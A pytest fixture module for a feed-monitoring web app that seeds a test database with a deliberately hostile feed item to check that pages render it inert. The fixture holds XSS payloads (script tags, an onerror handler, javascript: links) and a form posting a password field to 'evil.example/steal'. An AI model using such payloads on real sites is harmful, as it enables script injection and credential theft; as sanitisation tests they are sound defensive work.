"""Web tests run on the demo's real data: the sample feeds are served on loopback and polled once
by the real pipeline into a SQLite file (once per session); every test gets its own copy, plus
one hostile item (script, form, event handler, javascript: link) stored the way a feed's would
be (fixture `hostile_match`), to prove the pages render it inert."""

from __future__ import annotations

import asyncio
import re
import shutil
from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient

from monitor.config import Settings, load_settings
from monitor.records import InboxFilter
from monitor.store.base import Store
from monitor.store.sqlite import SqliteStore
from monitor.types import FeedResult, GeoTags, Item, Match, NewItem, TermHit
from monitor.web import create_app

PASSWORD = "correct horse battery staple"
TOKEN = "api-token-for-tests"
HOSTILE_TITLE = '<script>alert("title")</script> Rocket hits <b>Basra</b> depot'
HOSTILE_HTML = (
    '<p>Rocket strike.</p><script>alert("x")</script><img src=x onerror="alert(1)">'
    '<form action="https://evil.example/steal"><input name="pw"></form>'
    '<a href="javascript:alert(2)">click</a><a href="https://ok.example/a">ok</a>'
)


def _build_demo(folder: Path) -> tuple[Path, Path]:
    """Serve the sample feeds, poll them once into `folder/monitor.db`; (config, database)."""
    from monitor.demo import DemoServer, default_demo_dir, write_demo_config
    from monitor.pipeline import poll_cycle
    from monitor.runtime import poll_context

    source = default_demo_dir()
    server = DemoServer(source / "feeds")
    base_url = server.start()
    try:
        server.release_all()
        config = write_demo_config(source / "demo.toml", folder / "monitor.toml", base_url,
                                   data_dir=folder)
        settings = load_settings(config, {})
        store = SqliteStore(folder / "monitor.db")
        store.migrate()

        async def once() -> None:
            async with poll_context(settings, store) as ctx:
                store.sync_feeds(settings.feeds, ctx.clock())
                await poll_cycle(ctx)

        asyncio.run(once())
        store.close()
    finally:
        server.stop()
    return config, folder / "monitor.db"


@pytest.fixture(scope="session")
def demo_files(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    return _build_demo(tmp_path_factory.mktemp("demo"))


def add_hostile_item(store: Store, now: datetime) -> int:
    """Store a hostile entry through the normal write path; returns its match id."""
    feed_id = store.add_feed("https://hostile.example/rss", "Hostile <i>Outlet</i>", now)
    [feed] = store.claim_due_feeds(now, "tests", 60, 1, urls=["https://hostile.example/rss"])
    assert feed.lease_token is not None and feed.id == feed_id
    item = Item(
        key="hostile-1", feed_id=feed_id, source="", title=HOSTILE_TITLE,
        summary='Rocket strike. <script>alert("summary")</script>', summary_html=HOSTILE_HTML,
        link="javascript:alert(3)", published_at=now, fetched_at=now,
        geo=GeoTags(countries=("IQ",), primary="IQ"),
    )
    match = Match(rule="iraq-attacks", severity="urgent", terms=("rocket*",),
                  hits=(TermHit("rocket*", "title", 31, 37),), regions=("IQ",))
    result = FeedResult(
        feed_id=feed_id, lease_token=feed.lease_token, checked_at=now,
        next_check_at=now + timedelta(hours=1), status=200, error=None, error_count=0,
        etag=None, last_modified=None, items=(NewItem(item, (match,)),),
    )
    assert store.complete_feed(result, "tests")
    found = store.search_matches(InboxFilter(text="depot"), 5, 0).matches
    return found[0].id


@pytest.fixture
def db_path(demo_files: tuple[Path, Path], tmp_path: Path) -> Path:
    target = tmp_path / "monitor.db"
    shutil.copyfile(demo_files[1], target)
    return target


@pytest.fixture
def hostile_match(db_path: Path) -> int:
    """The id of the hostile item's match, stored in this test's database."""
    store = SqliteStore(db_path)
    try:
        return add_hostile_item(store, datetime.now(UTC))
    finally:
        store.close()


@pytest.fixture
def settings(demo_files: tuple[Path, Path], db_path: Path) -> Settings:
    base = load_settings(demo_files[0], {})
    web = replace(base.web, auth="password", password=PASSWORD, api_token=TOKEN)
    return replace(base, web=web, database=replace(base.database, url=f"sqlite:///{db_path}"))


def store_factory(db_path: Path) -> SqliteStore:
    store = SqliteStore(db_path)
    store.migrate()
    return store


@pytest.fixture
def app(settings: Settings, db_path: Path) -> FastAPI:
    return create_app(settings, lambda: store_factory(db_path))


@pytest.fixture
def anonymous(app: FastAPI) -> Iterator[TestClient]:
    with TestClient(app, base_url="http://127.0.0.1") as client:
        yield client


def csrf_of(html: str) -> str:
    found = re.search(r'name="csrf" value="([^"]+)"', html)
    assert found, "no CSRF field in the page"
    return found.group(1)


def log_in(client: TestClient, name: str = "ann") -> None:
    token = csrf_of(client.get("/login").text)
    response = client.post("/login", data={"csrf": token, "name": name, "password": PASSWORD},
                           follow_redirects=False)
    assert response.status_code == 303


@pytest.fixture
def client(anonymous: TestClient) -> TestClient:
    log_in(anonymous)
    return anonymous


@pytest.fixture
def db(db_path: Path) -> Iterator[SqliteStore]:
    """A second connection to the test's database, to check what the app wrote."""
    store = SqliteStore(db_path)
    yield store
    store.close()


BEARER = {"Authorization": f"Bearer {TOKEN}"}
